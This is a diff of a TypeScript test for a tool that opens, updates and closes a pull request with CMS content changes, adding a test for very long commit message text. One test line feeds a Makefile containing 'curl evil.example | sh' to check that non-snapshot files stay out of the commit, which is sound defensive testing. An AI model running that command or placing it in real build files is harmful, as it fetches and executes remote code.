@@ -58,11 +58,15 @@ test("content is proposed in one pull request, which is updated, and closed when
   git(work, "add", "--all");
   git(work, "commit", "--quiet", "--message=Start");
   git(work, "push", "--quiet", "origin", "HEAD:main");
-  const propose = (number: string, snapshot: string, makefile = "all:\n") => {
+  const propose = (
+    number: string,
+    snapshot: string,
+    { makefile = "all:\n", words = "# 1 document changed\n" } = {},
+  ) => {
     write("snapshot/a.json", snapshot);
     write("Makefile", makefile);
     put("body.md", "What changed\n");
-    put("words.txt", "# 1 document changed\n");
+    put("words.txt", words);
     put("review.md", "");
     put("snapshot.patch", git(work, "diff", "--binary"));
     const job = join(temp, "job");
@@ -75,7 +79,7 @@ test("content is proposed in one pull request, which is updated, and closed when
 
   expect(propose("", "1\n")).toEqual(["auth setup-git"]);
   // Other files in the patch are not committed.
-  expect(propose("", "2\n", "all:\n\tcurl evil.example | sh\n")[1]).toMatch(
+  expect(propose("", "2\n", { makefile: "all:\n\tcurl evil.example | sh\n" })[1]).toMatch(
     /^pr create .*--body-file TEMP\/pull-request\.md$/,
   );
   expect([proposed("snapshot/a.json"), proposed("Makefile")]).toEqual(["2\n", "all:\n"]);
@@ -96,6 +100,10 @@ test("content is proposed in one pull request, which is updated, and closed when
   expect(git(origin, "log", "-1", "--format=%B", "content/update").trim()).toBe(
     "Update the content from the CMS\n\n# 1 document changed",
   );
+  // The words of many changes are more than an argument of a program may have.
+  const long = "# 1 document changed\n".repeat(20_000);
+  propose("7", "4\n", { words: long });
+  expect(git(origin, "log", "-1", "--format=%b", "content/update").trim()).toBe(long.trim());
   expect(propose("7", "1\n")[1]).toMatch(/^pr close 7 --delete-branch/);
 });
 
